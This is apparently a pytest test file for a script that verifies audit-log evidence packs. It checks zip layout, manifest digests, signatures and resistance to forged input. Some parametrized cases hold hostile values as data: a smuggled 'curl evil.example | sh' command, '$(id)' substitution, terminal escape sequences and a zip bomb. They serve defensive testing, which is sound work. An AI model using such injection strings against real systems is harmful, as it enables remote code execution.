from __future__ import annotations

import ast
import io
import json
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from tests.proofs.evidence_pack import files_of, pack_of, story

from keyreeve.codec import verify_pack
from keyreeve.codec.evidence_pack import verifier
from keyreeve.model import evidence

SOURCE = Path(verify_pack.__file__)


@pytest.fixture(scope="module")
def pack() -> bytes:
    return pack_of(story()).content


@pytest.fixture
def file(pack: bytes, tmp_path: Path) -> Path:
    path = tmp_path / "pack.zip"
    path.write_bytes(pack)
    return path


def test_the_script_is_the_source_needs_nothing_but_python_3_9_and_fits_ten_minutes():
    text = SOURCE.read_text(encoding="utf-8")
    assert verifier().decode() == text
    tree = ast.parse(text, feature_version=(3, 9))
    imported = {
        name
        for node in ast.walk(tree)
        if isinstance(node, ast.Import | ast.ImportFrom)
        for name in (
            [node.module] if isinstance(node, ast.ImportFrom) else [n.name for n in node.names]
        )
    }
    assert {name.partition(".")[0] for name in imported} <= sys.stdlib_module_names
    assert not any(isinstance(node, ast.Match) for node in ast.walk(tree))
    assert len(text.splitlines()) < 400


def test_it_looks_for_the_digests_where_the_log_has_them():
    assert verify_pack.kept_by({"data": {evidence.KEPT: {"a": "b"}}}) == {"a": "b"}
    assert verify_pack.kept_by({"data": []}) == verify_pack.kept_by({"data": {"kept": "x"}}) == {}


@pytest.mark.parametrize("value", [None, 1, [], ["0" * 64], {"a": {}}, "", "0" * 64])
def test_a_digest_of_any_shape_is_compared_and_is_none(value: object):
    kept = verify_pack.kept_by({"data": {"kept": {"a": value, "gone": value}}})
    (problem,) = verify_pack.unlike({"a": b"x"}, kept)
    assert problem.startswith("a: it is not the one that the audit log tells of")


def test_a_pack_is_a_zip_that_everybody_can_open(pack: bytes, tmp_path: Path):
    with zipfile.ZipFile(io.BytesIO(pack)) as opened:
        assert opened.testzip() is None
        assert {info.date_time for info in opened.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        assert {info.external_attr >> 16 for info in opened.infolist()} == {0o100444}
        opened.extractall(tmp_path)
    assert (tmp_path / "README.txt").read_text(encoding="utf-8").startswith("Evidence of ETV")


@pytest.mark.parametrize("count", [0, 1, 65_534, 65_535, 70_000])
def test_also_many_files_make_a_zip(count: int):
    files = {f"é{number:06d}": b"" for number in range(count)}
    with zipfile.ZipFile(io.BytesIO(verify_pack.packed(files))) as opened:
        assert opened.namelist() == list(files)


def test_more_than_zip_can_hold_is_refused():
    class Large(bytes):
        def __len__(self) -> int:
            return 1 << 32

    with pytest.raises(OverflowError):
        verify_pack.packed({"large": Large()})


def test_the_script_says_sound_and_what_it_could_not_compare(
    file: Path, capsys: pytest.CaptureFixture
):
    assert verify_pack.main([str(file)]) == 0
    said = capsys.readouterr().out
    assert said.startswith("Sound: ")
    assert "Not compared with anything from elsewhere" in said
    assert "By its manifest: account 123456789012, 2026-01-08 to 2026-01-15, both included." in said
    known = verify_pack.sha256(files_of(file.read_bytes())["manifest.json"])
    assert verify_pack.main(["--expect", known.upper(), str(file)]) == 0
    assert "Not compared" not in capsys.readouterr().out


SIGNED = {"algorithm": "ECDSA_SHA_256", "hash": "sha256", "key_id": "arn:aws:kms:x:1:key/a-1"}


@pytest.mark.parametrize(
    "told",
    [
        {**SIGNED, "hash": "sha256 -verify k; curl evil.example | sh #"},
        {**SIGNED, "key_id": "\x1b[2J"},
        {**SIGNED, "key_id": "a\nSound"},
        {**SIGNED, "algorithm": "$(id)"},
        {**SIGNED, "more": "x"},
        {},
        5,
        float("nan"),
        "",
    ],
    ids=str,
)
def test_a_pack_that_was_made_up_puts_no_command_and_no_escape_into_the_verifiers_mouth(
    told: object, pack: bytes, file: Path, capsys: pytest.CaptureFixture
):
    file.write_bytes(signed(pack, told, KEY))
    assert verify_pack.main([str(file)]) == 1
    said = capsys.readouterr().out
    assert "openssl" not in said
    assert "curl" not in said
    assert "\x1b" not in said
    file.write_bytes(signed(pack, SIGNED, KEY))
    assert verify_pack.main([str(file)]) == 0
    assert "openssl dgst -sha256 -verify signing-key.pem" in capsys.readouterr().out


@pytest.mark.parametrize("told", ["\x1b[2J", "soon", 5, "2026-1-1", ["2026-01-01"]], ids=repr)
def test_the_day_of_a_purge_is_a_day_or_the_pack_is_not_sound(told: object, pack: bytes):
    files = files_of(pack)
    manifest = json.loads(files["manifest.json"])
    manifest["audit"]["files_purged_before"] = told
    files["manifest.json"] = json.dumps(manifest).encode()
    files["manifest.sha256"] = verify_pack.sum_line(files["manifest.json"])
    (problem,) = verify_pack.problems(verify_pack.packed(files))
    assert "not in the form of a manifest" in problem


def test_a_signature_without_its_key_is_no_sound_pack(
    pack: bytes, file: Path, capsys: pytest.CaptureFixture
):
    file.write_bytes(signed(pack, SIGNED, {}))
    assert verify_pack.main([str(file)]) == 1
    assert capsys.readouterr().out.startswith("signing-key.pem: it is missing")


KEY = {"signing-key.pem": b"key"}


def signed(pack: bytes, told: object, more: dict[str, bytes]) -> bytes:
    """The pack made up anew, consistent in itself, with what it tells of its signature."""
    files = {**files_of(pack), **more}
    manifest = json.loads(files["manifest.json"]) | {"signature": told}
    for name, content in more.items():
        manifest["files"][name] = {"bytes": len(content), "sha256": verify_pack.sha256(content)}
    files["manifest.json"] = json.dumps(manifest).encode()
    files |= {"manifest.sha256": verify_pack.sum_line(files["manifest.json"])}
    files |= {"manifest.sig": b"signature"}
    head = [name for name in verify_pack.HEAD if name in files]
    return verify_pack.packed(
        {name: files[name] for name in [*head, *sorted(set(files) - {*verify_pack.HEAD})]}
    )


def test_the_script_names_the_first_altered_file_and_line(
    file: Path, pack: bytes, capsys: pytest.CaptureFixture
):
    files = files_of(pack)
    segments = (name for name in files if name.startswith("audit/"))
    name = next(name for name in segments if files[name].count(b"\n") > 1)
    lines = files[name].splitlines(keepends=True)
    lines[1] = lines[1].replace(b'"seq":', b'"seq": ', 1)
    file.write_bytes(verify_pack.packed({**files, name: b"".join(lines)}))
    assert verify_pack.main([str(file)]) == 1
    said = capsys.readouterr().out.splitlines()
    assert said[0].startswith(f"{name}: it was altered")
    assert said[1].startswith(f"{name} line 2: record ")
    assert said[-1].startswith("NOT SOUND")


@pytest.mark.parametrize("arguments", [[], ["a", "b"], ["--expect"], ["-x"]])
def test_what_it_does_not_understand_it_says(arguments: list[str], capsys: pytest.CaptureFixture):
    assert verify_pack.main(arguments) == 2
    assert "usage: " in capsys.readouterr().err


def test_a_file_that_is_not_there_is_named(capsys: pytest.CaptureFixture):
    assert verify_pack.main(["nowhere.zip"]) == 2
    assert "nowhere.zip" in capsys.readouterr().err


def test_a_small_file_that_unpacks_to_a_large_one_is_not_unpacked(pack: bytes):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zipped:
        for name, content in {**files_of(pack), "bomb": bytes(10_000_000)}.items():
            zipped.writestr(name, content)
    assert verify_pack.problems(out.getvalue()) == [
        "the zip was written anew: a pack is not compressed"
    ]


def test_names_in_a_pack_cannot_steer_a_terminal(file: Path, pack: bytes):
    files = {**files_of(pack), "\x1b]0;title\x07": b""}
    file.write_bytes(verify_pack.packed(files))
    done = subprocess.run(
        [sys.executable, "-I", str(SOURCE), str(file)], capture_output=True, check=False
    )
    assert (done.returncode, b"\x1b" in done.stdout, b"\x07" in done.stdout) == (1, False, False)


@pytest.mark.parametrize(
    "content",
    [b"", b"PK", b"no zip at all", b"PK\x05\x06" + b"\0" * 18],
)
def test_what_is_no_pack_is_not_sound(content: bytes):
    assert verify_pack.problems(content)


@pytest.mark.parametrize(
    "manifest", [b"{}", b"[]", b"{", b'{"schema":"keyreeve.evidence/1"}', b"\xff"]
)
def test_a_manifest_that_is_none_is_named(manifest: bytes, pack: bytes):
    files = {**files_of(pack), "manifest.json": manifest}
    files["manifest.sha256"] = verify_pack.sum_line(manifest)
    found = verify_pack.problems(verify_pack.packed(files))
    assert found
    assert all("manifest.json" in text for text in found)
